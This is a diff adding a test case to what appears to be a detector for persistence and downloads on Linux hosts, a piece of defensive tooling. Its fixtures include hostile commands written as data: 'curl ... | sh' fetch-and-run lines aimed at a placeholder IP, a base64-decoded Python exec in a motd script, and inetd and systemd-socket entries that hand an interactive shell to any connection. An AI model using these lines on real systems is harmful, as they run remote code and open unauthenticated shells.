@@ -30,3 +30,23 @@ test('near miss: pings, web crons, renewals, backups, a packaged job', () => {
   assert.equal(detect('curl https://get.acme.sh | sh')[0]?.severity, 'low')
   assert.equal(detect('curl http://203.0.113.5/x | sh', [fileOf({ path: '/etc/cron.d/x', packaged: 'intact' })]).length, 0)
 })
+
+test('the text of a file that is an entry as a whole; a shell given to whoever connects', () => {
+  const whole = (head: string, path = '/etc/update-motd.d/99-x') => {
+    const autostarts = [autostartOf({ path, command: path, extent: 'file', kind: 'motd' })]
+    return [
+      ...persistenceDownloads.detect(factsOf({ autostarts, files: [fileOf({ path, magic: 'script', head })] }), intelWith(), new Set()),
+    ]
+  }
+  assert.equal(whole('#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n')[0]?.severity, 'high')
+  assert.equal(whole('#!/usr/bin/python3\nimport base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n')[0]?.severity, 'medium')
+  const unpacks = 'curl -fsSL -o /tmp/g.tgz https://a.example/g.tgz && tar -xzf /tmp/g.tgz\nnohup /usr/bin/x >/dev/null 2>&1 &'
+  assert.deepEqual(whole(`#!/bin/sh\n${unpacks}\n`), [])
+  const listening = (kind: string, command: string) => [
+    ...persistenceDownloads.detect(factsOf({ autostarts: [autostartOf({ path: '/etc/x', kind, command })] }), intelWith(), new Set()),
+  ]
+  assert.equal(listening('inetd', '/bin/sh sh -i')[0]?.severity, 'high')
+  assert.equal(listening('systemd-socket', '-/bin/bash -i')[0]?.severity, 'high')
+  assert.deepEqual(listening('inetd', '/bin/sh sh /usr/lib/serve.sh'), [])
+  assert.deepEqual(listening('systemd-service', '/bin/bash -i'), [])
+})
